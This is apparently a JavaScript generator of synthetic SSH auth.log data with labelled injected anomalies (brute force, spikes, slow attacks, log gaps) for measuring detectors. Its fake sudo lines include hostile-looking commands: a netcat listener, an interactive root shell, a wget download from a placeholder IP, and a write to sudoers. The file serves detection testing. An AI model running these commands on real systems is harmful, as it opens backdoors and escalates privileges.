// Writes weeks of a host's auth.log as a real one looks, with labelled anomalies injected in its later weeks: what the
// learned detectors are measured on (bench/detectors.mjs, test/rules/detect/weeks.test.ts). Deterministic per seed.
//
// Normal behaviour: users with their own working hours, days and networks (office and home), logging in a few times a
// working day (keys mostly, passwords with the odd typo), evenings on call now and then, a trip from a hotel network;
// sudo, cron every ten minutes, systemd-logind; and the internet's background noise: bots trying root and invented
// users (a few tries to a few dozen, seconds apart), sprays of single tries at root from many addresses, scanners.
//
// Anomalies (each labelled with its detector, key, and when it starts and becomes visible):
// success-after-failures, new-login-source, new-sudo-command, unusual-time, spike, distributed-attack, slow-attack,
// source-quiet.

export function mulberry32(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
/** Monday 5 January 2026, 00:00 UTC: weeks start on Mondays (the detectors' zone is UTC here). */
export const START = Date.UTC(2026, 0, 5);

const NAMES = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar'];
const BOT_USERS = ['admin', 'test', 'user', 'ubuntu', 'oracle', 'postgres', 'git', 'ftpuser', 'pi', 'guest', 'support'];
const KEY = 'ED25519 SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/AbCdE';
const COMMANDS = [
  '/usr/bin/apt update',
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/journalctl -u app',
  '/bin/ls /root',
];

/**
 * One host's lines (time-ordered, each with its time) and the anomalies injected into them.
 * `anomalyFrom`: the day anomalies begin (the weeks before are normal only).
 */
export function generateHost({ host = 'web1', hostIndex = 0, weeks = 6, seed = 1, anomalyFrom = 14 } = {}) {
  const rnd = mulberry32(seed * 7919 + hostIndex);
  const int = (n) => Math.floor(rnd() * n);
  const pick = (xs) => xs[int(xs.length)];
  const between = (a, b) => a + rnd() * (b - a);
  const poisson = (mean) => {
    let k = 0;
    let p = Math.exp(-mean);
    let s = p;
    const u = rnd();
    while (u > s && k < 1000) {
      k++;
      p *= mean / k;
      s += p;
    }
    return k;
  };
  const events = [];
  const labels = [];
  let pid = 2000;
  const nextPid = () => {
    pid = pid >= 65000 ? 2000 : pid + 1 + int(40);
    return pid;
  };
  const emit = (at, program, message, p = nextPid()) => events.push({ at: Math.round(at), program, message, pid: p });
  const port = () => 1024 + int(64000);
  const internet = () =>
    `${pick([5, 23, 37, 45, 61, 77, 91, 103, 118, 139, 146, 159, 178, 185, 193, 212, 218])}.${int(256)}.${int(256)}.${1 + int(254)}`;
  const days = weeks * 7;
  const end = START + days * DAY;

  const office = `198.51.${100 + hostIndex}`;
  const users = NAMES.map((name, u) => ({
    name,
    uid: 1000 + u,
    start: 7 + int(4),
    length: 8 + int(3),
    weekend: rnd() < 0.15,
    home: `100.${64 + u}.${10 + hostIndex}`,
    office: rnd() < 0.85,
    sudo: rnd() < 0.5,
    trip: rnd() < 0.3 ? 7 + int(days - 7) : -1,
  }));

  const login = (at, user, ip, method = rnd() < 0.8 ? 'publickey' : 'password') => {
    const p = nextPid();
    const from = port();
    if (method === 'password' && rnd() < 0.05) {
      for (let k = 0, n = 1 + int(2); k < n; k++) {
        emit(
          at - (n - k) * between(4, 12) * SECOND,
          'sshd',
          `Failed password for ${user.name} from ${ip} port ${from} ssh2`,
          p,
        );
      }
    }
    emit(
      at,
      'sshd',
      `Accepted ${method} for ${user.name} from ${ip} port ${from} ssh2${method === 'publickey' ? `: ${KEY}` : ''}`,
      p,
    );
    emit(at + 5, 'sshd', `pam_unix(sshd:session): session opened for user ${user.name}(uid=${user.uid}) by (uid=0)`, p);
    emit(at + 40, 'systemd-logind', `New session ${p} of user ${user.name}.`);
    const out = at + between(5, 120) * MINUTE;
    if (user.sudo && rnd() < 0.4) {
      emit(
        at + between(1, 5) * MINUTE,
        'sudo',
        `    ${user.name} : TTY=pts/0 ; PWD=/home/${user.name} ; USER=root ; COMMAND=${pick(COMMANDS)}`,
      );
    }
    emit(out, 'sshd', `Received disconnect from ${ip} port ${from}:11: disconnected by user`, p);
    emit(out + 2, 'sshd', `pam_unix(sshd:session): session closed for user ${user.name}`, p);
  };

  // Users' days.
  for (let day = 0; day < days; day++) {
    const weekday = day % 7 < 5;
    for (const user of users) {
      const trip = user.trip >= 0 && day >= user.trip && day < user.trip + 2;
      const hotel = `${81 + (user.uid % 20)}.${40 + hostIndex}.${user.uid % 250}`;
      if (!weekday && !(user.weekend && rnd() < 0.3)) continue;
      if (rnd() < 0.05) continue; // a day off
      const n = 1 + poisson(2);
      for (let k = 0; k < n; k++) {
        const at = START + day * DAY + (user.start + rnd() * user.length) * HOUR;
        const net = trip ? hotel : user.office && rnd() < 0.7 ? office : user.home;
        login(at, user, `${net}.${2 + int(250)}`);
      }
      // On call: an evening login now and then, from home.
      if (rnd() < 0.03) {
        login(
          START + day * DAY + (user.start + user.length + between(0.5, 3)) * HOUR,
          user,
          `${user.home}.${2 + int(250)}`,
        );
      }
    }
  }

  // cron, every ten minutes.
  for (let at = START + 17 * SECOND; at < end; at += 10 * MINUTE) {
    const p = nextPid();
    emit(at, 'CRON', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', p);
    emit(at + 1, 'CRON', '(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)', p);
    emit(at + 900, 'CRON', 'pam_unix(cron:session): session closed for user root', p);
  }

  // The internet: bots (a few to a few dozen tries, seconds apart), sprays at root, scanners.
  const bot = (at, ip, tries, gap) => {
    const name = rnd() < 0.45 ? 'root' : pick(BOT_USERS);
    let t = at;
    for (let k = 0; k < tries; k++) {
      const from = port();
      const p = nextPid();
      if (name === 'root') {
        emit(t, 'sshd', `Failed password for root from ${ip} port ${from} ssh2`, p);
        emit(t + 300, 'sshd', `Connection closed by authenticating user root ${ip} port ${from} [preauth]`, p);
      } else {
        emit(t, 'sshd', `Invalid user ${name} from ${ip} port ${from}`, p);
        emit(t + 200, 'sshd', `Failed password for invalid user ${name} from ${ip} port ${from} ssh2`, p);
        emit(t + 400, 'sshd', `Disconnected from invalid user ${name} ${ip} port ${from} [preauth]`, p);
      }
      t += gap();
    }
  };
  for (let at = START; at < end; ) {
    at += between(0, 2) * (HOUR / 2); // about two bots an hour
    const r = rnd();
    const tries = r < 0.4 ? 1 + int(2) : r < 0.8 ? 3 + int(8) : 10 + int(50);
    bot(at, internet(), tries, () => between(1, 10) * SECOND);
  }
  for (let at = START; at < end; at += HOUR) {
    // A spray: single tries at root from many addresses, some hours more than others.
    for (let k = 0, n = poisson(rnd() < 0.1 ? 12 : 4); k < n; k++) {
      const ip = internet();
      const t = at + rnd() * HOUR;
      const from = port();
      const p = nextPid();
      emit(t, 'sshd', `Failed password for root from ${ip} port ${from} ssh2`, p);
      emit(t + 300, 'sshd', `Connection closed by authenticating user root ${ip} port ${from} [preauth]`, p);
    }
    for (let k = 0, n = poisson(6); k < n; k++) {
      const t = at + rnd() * HOUR;
      const ip = internet();
      emit(
        t,
        'sshd',
        rnd() < 0.5
          ? `Connection closed by ${ip} port ${port()} [preauth]`
          : `banner exchange: Connection from ${ip} port ${port()}: invalid format`,
      );
    }
  }

  // Anomalies, from `anomalyFrom` on: at working hours unless they are about the hour.
  const workingAt = (day) => START + day * DAY + between(10, 16) * HOUR;
  const weekdaysFrom = (from) => {
    const out = [];
    for (let d = from; d < days; d++) if (d % 7 < 5) out.push(d);
    return out;
  };
  const active = users.filter((u) => !u.weekend);
  for (let week = Math.ceil(anomalyFrom / 7); week < weeks; week++) {
    const dayIn = () => week * 7 + int(5);
    // success-after-failures: a guessed password, after 6 to 15 failures seconds apart.
    {
      const user = pick(active);
      const ip = internet();
      let t = workingAt(dayIn());
      const start = t;
      for (let k = 0, n = 6 + int(10); k < n; k++) {
        emit(t, 'sshd', `Failed password for ${user.name} from ${ip} port ${port()} ssh2`);
        t += between(2, 6) * SECOND;
      }
      login(t, user, ip, 'password');
      labels.push({ kind: 'success-after-failures', key: { ip }, start, visible: t });
    }
    // unusual-time: two logins in the small hours of a weekday, from a usual network.
    for (let k = 0; k < 2; k++) {
      const user = pick(active);
      const at = START + dayIn() * DAY + between(1.5, 4.5) * HOUR;
      login(at, user, `${user.home}.${2 + int(250)}`, 'publickey');
      labels.push({ kind: 'unusual-time', key: { user: user.name }, start: at, visible: at });
    }
    // spike: a burst of 300 to 600 failures in 5 to 10 minutes from 30 addresses.
    {
      const at = workingAt(dayIn());
      const count = 300 + int(300);
      const span = between(5, 10) * MINUTE;
      const ips = Array.from({ length: 30 }, internet);
      for (let k = 0; k < count; k++) {
        emit(at + (k / count) * span, 'sshd', `Failed password for root from ${pick(ips)} port ${port()} ssh2`);
      }
      labels.push({ kind: 'spike', key: { source: 'auth', event: 'auth.failure' }, start: at, visible: at });
    }
    // distributed-attack: 25 to 60 addresses trying one real user once or twice each, over 20 to 40 minutes.
    {
      const user = pick(active);
      const at = workingAt(dayIn());
      const span = between(20, 40) * MINUTE;
      for (let k = 0, n = 25 + int(36); k < n; k++) {
        const ip = internet();
        for (let j = 0, tries = 1 + int(2); j < tries; j++) {
          emit(at + rnd() * span, 'sshd', `Failed password for ${user.name} from ${ip} port ${port()} ssh2`);
        }
      }
      labels.push({ kind: 'distributed-attack', key: { user: user.name }, start: at, visible: at });
    }
    // slow-attack: one address, a try every 5 to 9 minutes for 3 to 5 hours.
    {
      const ip = internet();
      const start = START + dayIn() * DAY + between(0, 18) * HOUR;
      const stop = start + between(3, 5) * HOUR;
      const name = rnd() < 0.5 ? 'root' : 'admin';
      for (let t = start; t < stop; t += between(5, 9) * MINUTE) {
        emit(
          t,
          'sshd',
          name === 'root'
            ? `Failed password for root from ${ip} port ${port()} ssh2`
            : `Failed password for invalid user admin from ${ip} port ${port()} ssh2`,
        );
      }
      // Slow by nature: seen once it has gone on for a while, within three hours of its start.
      labels.push({ kind: 'slow-attack', key: { ip }, start, visible: start, within: 3 * HOUR });
    }
  }
  // new-login-source: two logins from networks new to their users, once the 30 days of learning are over.
  for (let k = 0; k < 2 * Math.max(0, weeks - 5); k++) {
    const user = pick(active);
    const day = pick(weekdaysFrom(Math.max(31, anomalyFrom)));
    const at = START + day * DAY + (user.start + 1 + rnd() * (user.length - 2)) * HOUR;
    const ip = `${pick([31, 88, 141, 176])}.${int(256)}.${int(256)}.${1 + int(254)}`;
    login(at, user, ip, 'publickey');
    labels.push({ kind: 'new-login-source', key: { user: user.name }, start: at, visible: at });
  }

  // new-sudo-command: two commands never run through sudo by their users, once the 30 days of learning are over.
  const sudoers = active.filter((u) => u.sudo);
  for (let k = 0; k < 2 * Math.max(0, weeks - 5) && sudoers.length > 0; k++) {
    const user = pick(sudoers);
    const day = pick(weekdaysFrom(Math.max(31, anomalyFrom)));
    const at = START + day * DAY + (user.start + 1 + rnd() * (user.length - 2)) * HOUR;
    const command = pick([
      '/usr/bin/nc -lvnp 4444',
      '/bin/bash -i',
      '/usr/bin/wget http://198.51.100.66/x',
      '/usr/bin/tee /etc/sudoers.d/zz',
    ]);
    emit(at, 'sudo', `    ${user.name} : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=${command}`);
    labels.push({ kind: 'new-sudo-command', key: { user: user.name }, start: at, visible: at });
  }
  // source-quiet: the log stops being written for two to four hours (rsyslog died, the disk filled), once a week.
  const silences = [];
  const injected = [...labels];
  for (let week = Math.ceil(anomalyFrom / 7); week < weeks; week++) {
    // Not over another anomaly: its lines are not lost.
    for (let tries = 0; tries < 50; tries++) {
      const start = START + (week * 7 + int(7)) * DAY + between(0, 20) * HOUR;
      const stop = start + between(2, 4) * HOUR;
      if (injected.some((l) => l.start < stop + HOUR && l.visible + (l.within ?? HOUR) > start - HOUR)) continue;
      silences.push([start, stop]);
      labels.push({ kind: 'source-quiet', key: { source: 'auth' }, start, visible: start, within: 2 * HOUR });
      break;
    }
  }
  const kept = events.filter((e) => !silences.some(([a, b]) => e.at >= a && e.at < b));
  events.length = 0;
  events.push(...kept);
  events.sort((a, b) => a.at - b.at);
  // Lines carry whole milliseconds: so do the labels.
  for (const l of labels) {
    l.start = Math.floor(l.start);
    l.visible = Math.floor(l.visible);
  }
  const lines = events.map((e) => ({
    at: e.at,
    text: `${isoStamp(e.at)} ${host} ${e.program}[${e.pid}]: ${e.message}`,
  }));
  return { host, lines, labels, start: START, end };
}

function isoStamp(at) {
  const d = new Date(at);
  return `${d.toISOString().slice(0, 23)}000+00:00`;
}
